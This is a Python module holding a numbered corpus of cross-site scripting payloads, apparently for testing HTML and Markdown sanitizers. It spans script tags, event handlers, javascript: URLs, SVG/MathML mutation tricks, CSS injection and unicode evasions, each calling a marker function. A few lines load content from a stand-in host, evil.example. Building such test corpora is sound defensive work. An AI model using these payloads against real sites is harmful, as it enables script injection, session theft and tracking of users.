"""The XSS corpus: hostile strings that call `__xss(n)` (or `alert(n)`) if they ever run.

Each template has `{n}` where its number goes, so a hit names the payload. Families:
script tags, event handlers, javascript:/data:/vbscript: URLs, SVG and MathML tricks
(including mutation-XSS shapes), Markdown link/image/autolink/reference tricks, CSS
injection, template-engine-looking strings, attribute and tag break-outs, and unicode
tricks (full-width brackets, zero-width and bidi characters, entity encodings). Curly
braces that belong to a payload are doubled for `str.format`.
"""

from __future__ import annotations

TEMPLATES: tuple[str, ...] = (
    # --- script tags
    "<script>__xss({n})</script>",
    "<SCRIPT>__xss({n})</SCRIPT>",
    "<script src=data:,__xss({n})></script>",
    "<script>/*</script><script>__xss({n})//*/</script>",
    "<scr<script>ipt>__xss({n})</scr</script>ipt>",
    "</script><script>__xss({n})</script>",
    "<script type=module>__xss({n})</script>",
    "<<script>script>__xss({n})<</script>/script>",
    "<script\x0c>__xss({n})</script>",
    '"><script>__xss({n})</script>',
    "'><script>__xss({n})</script>",
    "</textarea><script>__xss({n})</script>",
    "</title><script>__xss({n})</script>",
    "</pre><script>__xss({n})</script>",
    "<!--<script>-->__xss({n})<!--</script>-->",
    # --- event handlers
    "<img src=x onerror=__xss({n})>",
    "<img src=x onerror='__xss({n})'>",
    '<img src="x" onerror="&#95;&#95;xss({n})">',
    "<img/src/onerror=__xss({n})>",
    "<IMG SRC=x OnErRoR=__xss({n})>",
    "<body onload=__xss({n})>",
    "<svg onload=__xss({n})>",
    "<svg/onload=__xss({n})>",
    "<details open ontoggle=__xss({n})>x</details>",
    "<input autofocus onfocus=__xss({n})>",
    "<select autofocus onfocus=__xss({n})></select>",
    "<textarea autofocus onfocus=__xss({n})></textarea>",
    "<video><source onerror=__xss({n})></video>",
    "<audio src=x onerror=__xss({n})></audio>",
    "<marquee onstart=__xss({n})>x</marquee>",
    "<div onmouseover=__xss({n})>hover</div>",
    "<a onclick=__xss({n}) href=#>click</a>",
    "<button onclick=__xss({n})>b</button>",
    "<iframe onload=__xss({n})></iframe>",
    "<object data=x onerror=__xss({n})></object>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<body onpageshow=alert({n})>",
    "<img src=x:x onerror=window['__x'+'ss']({n})>",
    "<img src=x onerror=eval(atob('X194c3MoMSk='))>",
    "<style onload=__xss({n})></style>",
    "<img src=`x`onerror=__xss({n})>",
    "<img src=x onerror\n=__xss({n})>",
    # --- URLs
    "<a href=javascript:__xss({n})>link</a>",
    "<a href='JaVaScRiPt:__xss({n})'>link</a>",
    "<a href='&#106;avascript:__xss({n})'>link</a>",
    "<a href='java&#x09;script:__xss({n})'>link</a>",
    "<a href=' javascript:__xss({n})'>link</a>",
    "<a href='data:text/html,<script>__xss({n})</script>'>link</a>",
    "<a href='vbscript:__xss({n})'>link</a>",
    "<iframe src=javascript:__xss({n})></iframe>",
    "<iframe srcdoc='<script>parent.__xss({n})</script>'></iframe>",
    "<embed src=javascript:__xss({n})>",
    "<form action=javascript:__xss({n})><button>go</button></form>",
    "<form><button formaction=javascript:__xss({n})>go</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:__xss({n})'>",
    "<base href=javascript:__xss({n})//>",
    "<isindex action=javascript:__xss({n}) type=submit>",
    # --- SVG / MathML
    "<svg><script>__xss({n})</script></svg>",
    "<svg><script href=data:,__xss({n}) /></svg>",
    "<svg><a xlink:href='javascript:__xss({n})'><text x=20 y=20>X</text></a></svg>",
    "<svg><animate onbegin=__xss({n}) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=__xss({n})>",
    "<svg><foreignObject><img src=x onerror=__xss({n})></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>"
    "<image href=1 onerror=__xss({n}) /></svg>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss({n})>",
    "<math><mi xlink:href='javascript:__xss({n})'>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:__xss({n})>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=__xss({n})>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=__xss({n})>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss({n})>",
    # --- Markdown
    "[click](javascript:__xss({n}))",
    "[click](JAVASCRIPT:__xss({n}))",
    "[click](javascript&#58;__xss({n}))",
    "[click]( javascript:__xss({n}) )",
    "[click](<javascript:__xss({n})>)",
    "[click](data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==) {n}",
    "[click](vbscript:__xss({n}))",
    "![img](javascript:__xss({n}))",
    '![img](x" onerror="__xss({n}))',
    "![img](https://evil.example/beacon.png?{n})",
    "<javascript:__xss({n})>",
    "[ref][r{n}]\n\n[r{n}]: javascript:__xss({n})",
    "[a](https://example.com 'title\" onmouseover=\"__xss({n})')",
    "**<img src=x onerror=__xss({n})>**",
    "`<script>__xss({n})</script>`",
    "```html\n<script>__xss({n})</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=__xss({n})> | x |",
    "> <svg onload=__xss({n})>",
    "- [x](javascript:__xss({n}))",
    # --- CSS injection
    "<style>@import 'https://evil.example/{n}.css';</style>",
    "<style>body{{background:url('javascript:__xss({n})')}}</style>",
    "<div style=\"background:url('javascript:__xss({n})')\">css</div>",
    "<div style='width:expression(__xss({n}))'>css</div>",
    "<link rel=stylesheet href=https://evil.example/{n}.css>",
    "<p style='behavior:url(#default#time2)' onbegin=__xss({n})>css</p>",
    # --- template-looking strings
    "{{{{constructor.constructor('__xss({n})')()}}}}",
    "${{__xss({n})}}",
    "{{% raw %}}<script>__xss({n})</script>{{% endraw %}}",
    "<%= __xss({n}) %>",
    "#{{__xss({n})}}",
    "[[__xss({n})]]",
    "{{{{7*7}}}} <img src=x onerror=__xss({n})>",
    # --- unicode and encoding tricks
    "\uff1cscript\uff1e__xss({n})\uff1c/script\uff1e",
    "<scr\u200bipt>__xss({n})</scr\u200bipt>",
    "[click](java\u200bscript:__xss({n}))",
    "\u202e<img src=x onerror=__xss({n})>",
    "&lt;script&gt;__xss({n})&lt;/script&gt;",
    "&#60;img src=x onerror=__xss({n})&#62;",
    "%3Cscript%3E__xss({n})%3C/script%3E",
    "\\u003cscript\\u003e__xss({n})\\u003c/script\\u003e",
    "<img src=x onerror=\u0061lert({n})>",
    "<a href='\u0001javascript:__xss({n})'>ctl</a>",
    "\u2028<script>__xss({n})</script>\u2029",
)


def payloads() -> list[tuple[int, str]]:
    """(number, payload) for every template; numbers start at 1."""
    return [(n, template.format(n=n)) for n, template in enumerate(TEMPLATES, start=1)]
